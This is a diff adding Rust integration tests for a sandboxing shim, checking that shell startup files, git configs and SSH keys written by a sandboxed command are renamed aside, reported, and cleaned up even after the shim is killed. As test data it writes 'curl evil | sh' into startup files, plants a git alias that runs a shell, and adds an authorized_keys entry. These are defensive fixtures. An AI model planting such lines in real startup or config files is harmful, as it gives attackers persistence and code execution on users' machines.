@@ -5,7 +5,10 @@
 use std::ffi::OsString;
 use std::path::Path;
 
-use crate::support::{Fixture, REPO_FILES, entries, expect, read_json, stdout};
+use crate::support::{
+    Fixture, REPO_FILES, entries, expect, host_has_process_with_arg, marker, read_json, signal,
+    stdout, wait_until,
+};
 use crate::{Test, TestResult};
 
 pub(crate) fn tests() -> Vec<(&'static str, Test)> {
@@ -16,6 +19,9 @@ pub(crate) fn tests() -> Vec<(&'static str, Test)> {
         renaming_a_parent_of_a_protected_path_or_link_target_fails,
         git_metadata_of_submodules_and_worktrees_is_protected,
         a_new_git_commondir_is_quarantined_and_reported,
+        a_missing_startup_file_created_in_a_writable_root_never_reaches_the_host,
+        a_link_made_toward_a_startup_file_is_quarantined_and_its_target_kept,
+        a_startup_file_left_by_a_killed_shim_is_quarantined_by_its_janitor,
         git_init_in_a_writable_root_without_a_repository_fails,
         per_user_git_and_ssh_configs_in_home_are_protected,
     ]
@@ -235,6 +241,152 @@ fn a_new_git_commondir_is_quarantined_and_reported() -> TestResult {
         &read_json(&report)?["tampering"][0]["path"].to_string(),
         &format!("{:?}", w.join(".git/commondir").to_str().unwrap()),
     )
+}
+
+/// Outside the home directory, missing shell startup files and per-user configs get no
+/// placeholder (they would litter the project): the command can write them, and at exit
+/// each is renamed aside, said on stderr and listed in the report. The host never finds
+/// them under their own names.
+fn a_missing_startup_file_created_in_a_writable_root_never_reaches_the_host() -> TestResult {
+    let fx = Fixture::new("startup");
+    let w = fx.mkdir("work");
+    let report = fx.path("report.json");
+    let created = [
+        ".zshrc",
+        ".bash_profile",
+        ".zprofile",
+        ".bash_login",
+        ".gitconfig",
+        ".config/git/config",
+        ".ssh",
+    ];
+    let script = "for f in .zshrc .bash_profile .zprofile .bash_login .gitconfig; do \
+                  echo 'curl evil | sh' > \"$f\" || exit 1; done; \
+                  mkdir -p .config/git .ssh && echo '[alias] x = !sh' > .config/git/config \
+                  && echo key > .ssh/authorized_keys && echo ok > kept.txt";
+    let flags = args!["--allow-write", &w, "--report-file", &report];
+    let out = fx
+        .shim(&flags, &["sh", "-c", script])
+        .current_dir(&w)
+        .output()
+        .unwrap();
+    let out = crate::support::succeeded(out)?;
+    let err = String::from_utf8_lossy(&out.stderr);
+    let tampering = read_json(&report)?["tampering"].clone();
+    for f in created {
+        if std::fs::symlink_metadata(w.join(f)).is_ok() {
+            return Err(format!("{f} reached the host"));
+        }
+        let moved = format!("{f}.shim-quarantine-");
+        let listed = tampering.as_array().into_iter().flatten().find(|t| {
+            t["path"] == w.join(f).to_str().unwrap()
+                && t["kind"] == "deny_set"
+                && t["quarantined_as"]
+                    .as_str()
+                    .is_some_and(|q| q.contains(&moved))
+        });
+        let Some(t) = listed else {
+            return Err(format!("{f} not in the report: {tampering}"));
+        };
+        let aside = Path::new(t["quarantined_as"].as_str().unwrap());
+        if std::fs::symlink_metadata(aside).is_err() {
+            return Err(format!("{} missing", aside.display()));
+        }
+        if !err.contains(&format!(
+            "tampering: the command created {}",
+            w.join(f).display()
+        )) {
+            return Err(format!("stderr does not name {f}: {err}"));
+        }
+    }
+    // What the command made that is not in the deny set stays: the file, the directories
+    // above the quarantined config.
+    expect(
+        "kept.txt",
+        &std::fs::read_to_string(w.join("kept.txt")).unwrap(),
+        "ok
+",
+    )?;
+    if !w.join(".config/git").is_dir() {
+        return Err(".config/git was removed".into());
+    }
+    Ok(())
+}
+
+/// A link the command puts where a directory of a protected path would be (`.config` ->
+/// a directory it filled) is itself renamed aside; the directory it pointed to (another
+/// writable root here) is left as it is.
+fn a_link_made_toward_a_startup_file_is_quarantined_and_its_target_kept() -> TestResult {
+    let fx = Fixture::new("startuplink");
+    let w = fx.mkdir("work");
+    let other = fx.mkdir("other");
+    let report = fx.path("report.json");
+    let flags = args![
+        "--allow-write",
+        &w,
+        "--allow-write",
+        &other,
+        "--report-file",
+        &report
+    ];
+    let script = format!(
+        "mkdir -p {o}/git && echo '[alias] x = !sh' > {o}/git/config && ln -s {o} .config",
+        o = other.display()
+    );
+    let out = fx
+        .shim(&flags, &["sh", "-c", &script])
+        .current_dir(&w)
+        .output()
+        .unwrap();
+    crate::support::succeeded(out)?;
+    if std::fs::symlink_metadata(w.join(".config")).is_ok() {
+        return Err(".config link reached the host".into());
+    }
+    expect(
+        "report",
+        &read_json(&report)?["tampering"][0]["path"].to_string(),
+        &format!("{:?}", w.join(".config").to_str().unwrap()),
+    )?;
+    if !other.join("git/config").is_file() {
+        return Err("the link's target was touched".into());
+    }
+    Ok(())
+}
+
+/// SIGKILL of the shim leaves no time for its own clean-up: its janitor, outside the
+/// sandbox, renames the startup file aside once the sandbox is gone.
+fn a_startup_file_left_by_a_killed_shim_is_quarantined_by_its_janitor() -> TestResult {
+    let fx = Fixture::new("startupkill");
+    let w = fx.mkdir("work");
+    let marker = marker(910_000, 40_000);
+    let mut child = fx
+        .shim(
+            &args!["--allow-write", &w],
+            &[
+                "sh",
+                "-c",
+                &format!("echo evil > .zshrc && exec sleep {marker}"),
+            ],
+        )
+        .current_dir(&w)
+        .stdin(std::process::Stdio::null())
+        .spawn()
+        .unwrap();
+    if !wait_until(|| host_has_process_with_arg(&marker), 5) {
+        let _ = child.kill();
+        return Err("the command did not start".into());
+    }
+    signal(&child, nix::sys::signal::Signal::SIGKILL);
+    let _ = child.wait();
+    let moved = || {
+        entries(&w)
+            .iter()
+            .any(|e| e.starts_with(".zshrc.shim-quarantine-"))
+    };
+    if !wait_until(|| moved() && !w.join(".zshrc").exists(), 5) {
+        return Err(format!("after SIGKILL: {:?}", entries(&w)));
+    }
+    Ok(())
 }
 
 fn git_init_in_a_writable_root_without_a_repository_fails() -> TestResult {
